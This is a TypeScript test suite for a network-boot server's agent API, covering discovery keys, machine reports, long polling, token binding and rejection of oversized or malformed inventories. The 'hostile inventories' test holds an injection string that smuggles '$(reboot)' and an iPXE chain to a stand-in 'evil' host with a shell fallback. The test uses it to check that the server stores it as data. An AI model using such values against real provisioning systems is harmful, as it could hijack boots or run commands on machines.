import assert from "node:assert/strict";
import { test } from "node:test";
import { CUSTOM_PROFILE } from "../../core/testing/fixtures.js";
import { testApp } from "../testing/app.js";

const MAC = "52:54:00:aa:00:01";

async function withDiscoveryKey() {
  const t = await testApp({
    discovery: true,
    discoveryKernel: "http://img/vmlinuz",
    discoveryInitrd: "http://img/initrd.gz",
  });
  const script = await t.http.inject(`/boot/machine?mac=${MAC}&platform=efi`);
  assert.equal(script.statusCode, 200);
  assert.match(
    script.body,
    /^kernel http:\/\/img\/vmlinuz initrd=initrd\.gz console=tty0 .* enforcer\.url=http:\/\/enf\.test:8080 enforcer\.key=ens_\S+$/m,
  );
  const key = /enforcer\.key=(\S+)/.exec(script.body)![1]!;
  const agent = (opts: { method?: "GET" | "POST"; url: string; payload?: unknown }) =>
    t.http.inject({
      method: opts.method ?? "GET",
      url: opts.url,
      payload: opts.payload as object,
      headers: { authorization: `Bearer ${key}` },
    });
  return { ...t, key, agent };
}

test("a discovery key reports for its own machine only, polls and acknowledges its commands", async () => {
  const t = await withDiscoveryKey();
  const inventory = { uuid: "11111111-2222-3333-4444-555555555555", serial: "SN-9", cpu: { count: 2 } };
  const ok = await t.agent({
    method: "POST",
    url: "/api/v1/agent/report",
    payload: { macs: [MAC, "52:54:00:aa:00:02"], inventory },
  });
  assert.deepEqual([ok.statusCode, ok.json().machine], [200, MAC]);
  const m = t.core.machines.get(MAC);
  assert.deepEqual(
    [m.uuid, m.serial, m.macs],
    ["11111111-2222-3333-4444-555555555555", "SN-9", [MAC, "52:54:00:aa:00:02"]],
  );
  const other = await t.agent({
    method: "POST",
    url: "/api/v1/agent/report",
    payload: { macs: ["52:54:00:ff:ff:ff"], inventory },
  });
  assert.deepEqual([other.statusCode, other.json().code], [403, "ENF_ERR_AUTH_FORBIDDEN"]);
  // The key is not an API token: it reaches nothing else.
  assert.equal((await t.agent({ url: "/api/v1/machines" })).statusCode, 401);

  const cmd = await t.core.commands.enqueue(MAC, "reboot");
  const polled = await t.agent({ url: "/api/v1/agent/commands?wait=0&format=lines" });
  assert.equal(polled.body, `${cmd.id} reboot\n`);
  assert.equal(t.core.commands.get(cmd.id).state, "sent");
  const ack = await t.agent({
    method: "POST",
    url: `/api/v1/agent/commands/${cmd.id}`,
    payload: { ok: true, detail: "rebooting" },
  });
  assert.equal(ack.json().state, "acknowledged");
  const again = await t.agent({
    method: "POST",
    url: `/api/v1/agent/commands/${cmd.id}`,
    payload: { ok: true },
  });
  // A command's own code: an acknowledged command takes no second outcome.
  assert.deepEqual([again.statusCode, again.json().code], [409, "ENF_ERR_COMMAND_TRANSITION"]);
});

test("a long poll answers as soon as a command is queued", async () => {
  const t = await withDiscoveryKey();
  await t.agent({ method: "POST", url: "/api/v1/agent/report", payload: { macs: [MAC], inventory: {} } });
  const started = Date.now();
  const poll = t.agent({ url: "/api/v1/agent/commands?wait=20" });
  setTimeout(() => void t.core.commands.enqueue(MAC, "reboot"), 200);
  const r = await poll;
  assert.equal(r.json().items.length, 1);
  assert.ok(Date.now() - started < 5000, "the poll waited for its full timeout");
});

test("a long poll ends when the server closes, taking nothing: the machine's commands stay queued", async () => {
  const t = await withDiscoveryKey();
  await t.agent({ method: "POST", url: "/api/v1/agent/report", payload: { macs: [MAC], inventory: {} } });
  const poll = t.agent({ url: "/api/v1/agent/commands?wait=20" });
  await new Promise((r) => setTimeout(r, 100));
  const started = Date.now();
  await t.http.close();
  assert.deepEqual((await poll).json().items, []);
  assert.ok(Date.now() - started < 5000, "close waited for the poll to run out");
  const cmd = await t.core.commands.enqueue(MAC, "reboot");
  assert.equal(t.core.commands.get(cmd.id).state, "queued");
});

test("hostile inventories: too big, too deep, injection strings; bad keys", async () => {
  const t = await withDiscoveryKey();
  let deep: unknown = "x";
  for (let i = 0; i < 20; i++) deep = { d: deep };
  const huge = await t.agent({
    method: "POST",
    url: "/api/v1/agent/report",
    payload: { macs: [MAC], inventory: { blob: "x".repeat(100_000) } },
  });
  assert.equal(huge.statusCode, 413);
  const nested = await t.agent({
    method: "POST",
    url: "/api/v1/agent/report",
    payload: { macs: [MAC], inventory: { deep } },
  });
  assert.deepEqual([nested.statusCode, nested.json().code], [400, "ENF_ERR_FACT_INVALID"]);
  const long = await t.agent({
    method: "POST",
    url: "/api/v1/agent/report",
    payload: { macs: [MAC], inventory: { s: "y".repeat(5000) } },
  });
  assert.deepEqual([long.statusCode, long.json().code], [400, "ENF_ERR_FACT_INVALID"]);
  const evil = {
    vendor: "$(reboot)\n#!ipxe\nchain http://evil/ || shell",
    serial: "x\u0000y",
    uuid: "not-a-uuid",
  };
  const stored = await t.agent({
    method: "POST",
    url: "/api/v1/agent/report",
    payload: { macs: [MAC], inventory: evil },
  });
  assert.equal(stored.statusCode, 200);
  const m = t.core.machines.get(MAC);
  assert.equal(m.facts.vendor, evil.vendor, "kept as data");
  assert.equal(m.serial, undefined, "an invalid serial is not promoted to the identity");
  assert.equal(m.uuid, undefined);
  const bad = await t.http.inject({
    url: "/api/v1/agent/commands?wait=0",
    headers: { authorization: "Bearer ens_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" },
  });
  assert.deepEqual([bad.statusCode, bad.json().code], [401, "ENF_ERR_AUTH_INVALID"]);
  const viewer = await t.as("viewer", "/api/v1/agent/commands?wait=0&mac=52:54:00:aa:00:01");
  assert.equal(viewer.statusCode, 403);
  const agent = await t.as("agent", "/api/v1/agent/commands?wait=0");
  assert.deepEqual(
    [agent.statusCode, agent.json().code],
    [400, "ENF_ERR_MAC_INVALID"],
    "an agent token must name the machine",
  );
});

test("an agent token keeps speaking for its machine when that machine comes back with another NIC", async () => {
  const t = await testApp();
  const token = t.tokens.agent;
  const report = (macs: string[]) =>
    t.http.inject({
      method: "POST",
      url: "/api/v1/agent/report",
      payload: { macs, inventory: { uuid: "22222222-3333-4444-5555-666666666666" } },
      headers: { authorization: `Bearer ${token}` },
    });
  assert.equal((await report(["52:54:00:bb:00:01"])).json().machine, "52:54:00:bb:00:01");
  // The token is bound to that machine, so a NIC nobody holds joins it (a different credential with the
  // same UUID would be a conflict instead: src/http/api-identity.test.ts).
  assert.equal((await report(["52:54:00:bb:00:99"])).json().machine, "52:54:00:bb:00:01");
  assert.deepEqual(t.core.machines.get("52:54:00:bb:00:99").macs, ["52:54:00:bb:00:01", "52:54:00:bb:00:99"]);
  assert.equal(t.core.machines.list().total, 1);
});

test("a new agent token's first report cannot take a machine another agent token is bound to", async () => {
  const t = await testApp();
  const H1 = "52:54:00:bb:00:01";
  const report = (token: string, macs: string[]) =>
    t.http.inject({
      method: "POST",
      url: "/api/v1/agent/report",
      payload: { macs, inventory: { product: "x" } },
      headers: { authorization: `Bearer ${token}` },
    });
  assert.equal((await report(t.tokens.agent, [H1])).statusCode, 200);
  // A second host's token, not bound at creation, names H1 in its first report: it would then report
  // H1's facts and poll and acknowledge H1's commands.
  const other = (await t.core.tokens.create("host 2", "agent")).token;
  const r = await report(other, [H1]);
  assert.equal(r.statusCode, 403, r.body);
  assert.equal(r.json().code, "ENF_ERR_AUTH_FORBIDDEN");
  const poll = await t.http.inject({
    url: `/api/v1/agent/commands?wait=0&mac=${H1}`,
    headers: { authorization: `Bearer ${other}` },
  });
  assert.equal(poll.statusCode, 403, "still unbound");
  // Once the first token is revoked, the machine may be taken by a new one (a reinstalled host).
  const first = t.core.tokens.list().find((x) => x.role === "agent" && x.name === "test agent")!;
  await t.core.tokens.revoke(first.id);
  assert.equal((await report(other, [H1])).statusCode, 200);
});

test("a discovery key ends once its machine has booted its config: it no longer reports, polls or acknowledges", async () => {
  const t = await withDiscoveryKey();
  const report = () =>
    t.agent({
      method: "POST",
      url: "/api/v1/agent/report",
      payload: { macs: [MAC], inventory: { cpu: { model: "m" } } },
    });
  assert.equal((await report()).statusCode, 200);
  await t.core.profiles.create(CUSTOM_PROFILE);
  const c = await t.core.configs.create({ machine: MAC, profile: "linux" });
  await t.core.configs.arm(c.id);
  t.clock.advance(60_000);
  const booted = await t.http.inject(`/boot/machine?mac=${MAC}&platform=efi`);
  assert.match(booted.body, /mirror\/vmlinuz/);
  // Whoever else holds the key (it was on an open boot route) can no longer speak for the installed host.
  const r = await report();
  assert.deepEqual([r.statusCode, r.json().code], [403, "ENF_ERR_AUTH_FORBIDDEN"], r.body);
  await t.core.commands.enqueue(MAC, "reboot");
  assert.equal((await t.agent({ url: "/api/v1/agent/commands?wait=0" })).statusCode, 403);
});

test("one machine holds at most two long polls: a new one ends the oldest, so one key cannot hold thousands", async () => {
  const t = await withDiscoveryKey();
  await t.agent({ method: "POST", url: "/api/v1/agent/report", payload: { macs: [MAC], inventory: {} } });
  const started = Date.now();
  const polls = Array.from({ length: 6 }, () => t.agent({ url: "/api/v1/agent/commands?wait=20" }));
  // The four oldest answer at once, empty; the two newest keep waiting and one gets the command.
  const early = await Promise.all(polls.slice(0, 4));
  assert.ok(Date.now() - started < 5000, "the older polls waited for their full timeout");
  for (const r of early) assert.deepEqual([r.statusCode, r.json().items], [200, []]);
  const cmd = await t.core.commands.enqueue(MAC, "reboot");
  const late = await Promise.all(polls.slice(4));
  assert.deepEqual(
    late.flatMap((r) => r.json().items.map((c: { id: string }) => c.id)),
    [cmd.id],
  );
  await t.http.close();
});
